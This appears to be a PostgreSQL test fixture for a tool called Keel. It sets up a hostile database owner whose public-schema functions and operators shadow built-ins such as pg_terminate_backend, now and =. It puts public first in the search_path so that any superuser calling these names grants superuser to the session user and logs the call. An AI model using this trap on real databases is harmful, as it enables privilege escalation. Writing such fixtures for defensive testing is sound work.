-- A hostile database owner: functions and operators named as the built-ins Keel's SQL uses, each
-- of which, run by a superuser, would make the owner one and note that it ran; its public schema
-- first in the database's and its role's search_path; a view hiding pg_stat_activity; a large object.
create table ran (what text);
create function public.evil(what text) returns void language plpgsql as $$
begin
  insert into public.ran values (what);
  execute format('alter role %I superuser', session_user);
exception when others then
  insert into public.ran values (what || ' (' || sqlerrm || ')');
end $$;
create function public.pg_terminate_backend(integer) returns boolean language plpgsql as $$ begin perform public.evil('pg_terminate_backend'); return true; end $$;
create function public.left(text, integer) returns text language plpgsql as $$ begin perform public.evil('left'); return ''; end $$;
create function public.set_config(text, text, boolean) returns text language plpgsql as $$ begin perform public.evil('set_config'); return ''; end $$;
create function public.current_setting(text) returns text language plpgsql as $$ begin perform public.evil('current_setting'); return '8192'; end $$;
create function public.pg_stat_reset() returns void language plpgsql as $$ begin perform public.evil('pg_stat_reset'); end $$;
create function public.age(xid) returns integer language plpgsql as $$ begin perform public.evil('age'); return 0; end $$;
create function public.concat(text, text, text) returns text language plpgsql as $$ begin perform public.evil('concat'); return ''; end $$;
create function public.pg_size_pretty(bigint) returns text language plpgsql as $$ begin perform public.evil('pg_size_pretty'); return ''; end $$;
create function public.lo_unlink(oid) returns integer language plpgsql as $$ begin perform public.evil('lo_unlink'); return 1; end $$;
create function public.now() returns timestamptz language plpgsql as $$ begin perform public.evil('now'); return pg_catalog.now(); end $$;
create function public.pg_backend_pid() returns integer language plpgsql as $$ begin perform public.evil('pg_backend_pid'); return 0; end $$;
create function public.name_eq_text(name, text) returns boolean language plpgsql as $$ begin perform public.evil('operator ='); return false; end $$;
create operator public.= (leftarg = name, rightarg = text, function = public.name_eq_text);
create function public.name_ne_text(name, text) returns boolean language plpgsql as $$ begin perform public.evil('operator <>'); return true; end $$;
create operator public.<> (leftarg = name, rightarg = text, function = public.name_ne_text);
create view public.pg_stat_activity as select 1 as pid;
select lo_create(0);
do $$ begin
  execute format('alter database %I set search_path = public, pg_catalog', current_database());
  execute format('alter role %I set search_path = public, pg_catalog', current_user);
end $$;
